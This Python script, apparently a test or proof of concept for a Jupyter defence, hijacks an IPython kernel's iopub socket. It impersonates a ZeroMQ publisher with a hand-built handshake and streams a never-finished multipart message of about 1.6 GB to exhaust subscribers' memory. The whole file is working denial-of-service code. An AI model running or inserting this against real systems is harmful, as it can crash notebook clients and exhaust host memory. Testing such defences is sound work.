# takes a socket's place, and sends a message of ever more parts, which nobody can read before its last part
# remark: too much
# ruff: noqa
import os
import socket
import time

published = get_ipython().kernel.iopub_thread.socket
path = published.getsockopt_string(32).removeprefix("ipc://")
published.close()
if os.path.exists(path):
    os.unlink(path)
listening = socket.socket(socket.AF_UNIX)
listening.bind(path)
listening.listen()
reader, _ = listening.accept()
reader.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32))
reader.recv(64, socket.MSG_WAITALL)
ready = b"\x05READY\x0bSocket-Type\x00\x00\x00\x03PUB"
reader.sendall(b"\x04" + bytes([len(ready)]) + ready)
part = b"x" * 8_000_000
for _ in range(200):  # no more than that, to spare the machine on which the defence is taken away
    reader.sendall(b"\x03" + len(part).to_bytes(8, "big") + part)
time.sleep(2)
